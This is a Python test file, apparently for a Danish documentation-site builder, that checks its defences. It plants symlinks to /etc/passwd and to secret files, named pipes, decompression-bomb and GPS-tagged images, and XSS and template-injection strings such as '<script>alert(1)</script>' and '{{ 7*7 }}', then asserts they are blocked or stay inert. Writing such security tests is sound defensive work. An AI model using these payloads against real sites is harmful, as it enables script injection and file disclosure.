    project.write("docs/billeder/kort.svg", SVG.format("<path d='M 1 Q'/>"))
    page = "docs/strategi/formaal.md"
    project.write(page, (project.root / page).read_text(encoding="utf-8") + "\n![Et kort](../billeder/kort.svg)\n")
    process = project.build()
    assert "Traceback" not in process.stdout + process.stderr
    assert process.returncode == 0 or "docs/billeder/kort.svg:1: billedet kan ikke tegnes – gem det igen, eller brug PNG" in process.stdout


def test_two_files_with_one_url(project: Project) -> None:
    project.write("docs/kanaler.md", FRONT.format(description="x"))
    project.write("docs/templates/ny.md", FRONT.format(description="x"))
    reported = project.check()
    assert "docs/kanaler/index.md:1: siden får samme adresse som docs/kanaler.md – slet den ene, eller giv den et andet navn" in reported
    assert "docs/templates/ny.md:1: mappen templates kommer ikke med på hjemmesiden – giv den et andet navn" in reported


def test_symlinks_are_not_followed(project: Project) -> None:
    secret = project.root / "hemmeligt"
    secret.mkdir()
    (secret / "kodeord.md").write_text(FRONT.format(description=CANARY), encoding="utf-8")
    docs = project.root / "docs"
    (docs / "strategi/kodeord.md").symlink_to(secret / "kodeord.md")
    (docs / "billeder/kodeord.png").symlink_to("/etc/passwd")
    (docs / "hemmeligt").symlink_to(secret)
    (docs / "ring").symlink_to(docs)
    (docs / "tom.md").symlink_to("findes-ikke")
    (docs / ".a").symlink_to(docs)  # MkDocs does not publish these, but follows them
    (docs / ".b").mkdir()
    (docs / ".b/c").symlink_to(docs)
    os.mkfifo(docs / "billeder/roer.png")
    os.mkfifo(docs / "roer.md")
    links = ("strategi/kodeord.md", "billeder/kodeord.png", "hemmeligt", "ring", "tom.md", ".a", ".b/c")
    reported = project.check()
    assert sorted(reported) == sorted(
        [f"docs/{name}:1: filen er en genvej (symlink) – slet den, og læg selve filen i docs/" for name in links]
        + [f"docs/{name}:1: filen er ikke en almindelig fil – slet den, og læg selve filen i docs/" for name in ("billeder/roer.png", "roer.md")]
    )
    process = project.build()
    assert process.returncode == 1 and not project.site.exists()
    assert CANARY not in process.stdout + process.stderr


def test_images_that_would_fill_the_memory(project: Project) -> None:
    images = project.root / "docs/billeder"
    Image.new("1", (6000, 6000)).save(images / "stort.png")
    Image.new("1", (30000, 30000)).save(images / "bombe.png")
    Image.new("RGB", (9, 9)).save(images / "forkert.png", format="JPEG")
    (images / "tungt.jpg").write_bytes(bytes(3_000_000))
    (images / "tom.webp").write_bytes(b"")
    Image.new("RGB", (9, 9)).save(images / "godt.png")
    Image.effect_noise((200, 200), 50).save(images / "helt.jpg")
    (images / "afskaaret.jpg").write_bytes((images / "helt.jpg").read_bytes()[:5000])
    place = Image.Exif()
    place[0x8825] = {1: "N", 2: (54.0, 46.0, 0.0)}
    Image.new("RGB", (9, 9)).save(images / "sted.jpg", exif=place)
    two = Image.new("RGB", (9, 9))
    two.save(images / "telefon.jpg", format="MPO", save_all=True, append_images=[two])
    reported = {line.split(":")[0].rpartition("/")[2]: line.split(": ", 1)[1].split(" – ")[0] for line in project.check()}
    assert reported == {
        "stort.png": "billedet er 6000 × 6000 punkter, og det må højst være 25 millioner i alt",
        "bombe.png": "billedet har for mange punkter",
        "forkert.png": "filen hedder .png, men er et billede af typen JPEG",
        "tungt.jpg": "filen fylder 3000 kB, og den må højst fylde 2000 kB",
        "tom.webp": "filen er ikke et billede, der kan vises",
        "afskaaret.jpg": "filen er ikke et billede, der kan vises",
        "sted.jpg": "billedet fortæller, hvor det er taget (GPS)",
    }


@pytest.fixture(scope="module")
def site_of_words(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A real build of everything that is text, served."""
    root = tmp_path_factory.mktemp("words")
    project = without_menu(copied(root))
    description = "'\"><script>alert(1)</script> {{ 7*7 }}'"
    files = plant(project, "strategi", [FRONT.format(description=description) + text for text in WORDS])
    title = FRONT.format(description="x").replace("# Et angreb", "# &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; `<img src=x onerror=alert(1)>`")
    project.write("docs/strategi/titel.md", title)
    (root / "kodeord").write_text(CANARY)
    assert project.check() == []
    process = project.build()
    assert process.returncode == 0, process.stdout + process.stderr
    assert len(files) == len(WORDS)
    with serving(project.site) as url:
        yield url


def test_hostile_text_stays_text_in_a_browser(site_of_words: str, browser: Browser) -> None:
    page = browser.new_page()
    foreign: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: foreign.append(request.url) if not request.url.startswith(site_of_words) else None)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in ("", "strategi/titel/", *(f"strategi/angreb-{number:03}/" for number in range(len(WORDS)))):
        page.goto(f"{site_of_words}{path}")
        assert page.locator("article script, article img[src=x], article [onclick]").count() == 0
        assert "{{" not in page.title()
    page.goto(f"{site_of_words}strategi/titel/")
    assert page.title().startswith("</title><script>alert(1)</script> <img src=x onerror=alert(1)> - ")
    page.locator("#site-search").press_sequentially("alert")
    page.locator(".site-search-panel li").nth(2).wait_for()
    page.goto(f"{site_of_words}soeg/?q=alert")
    page.locator("[data-search-results] mark").nth(2).wait_for()
    assert page.locator("article script, article img[src=x], article [onclick]").count() == 0
    assert foreign == [] and dialogs == []
    page.close()
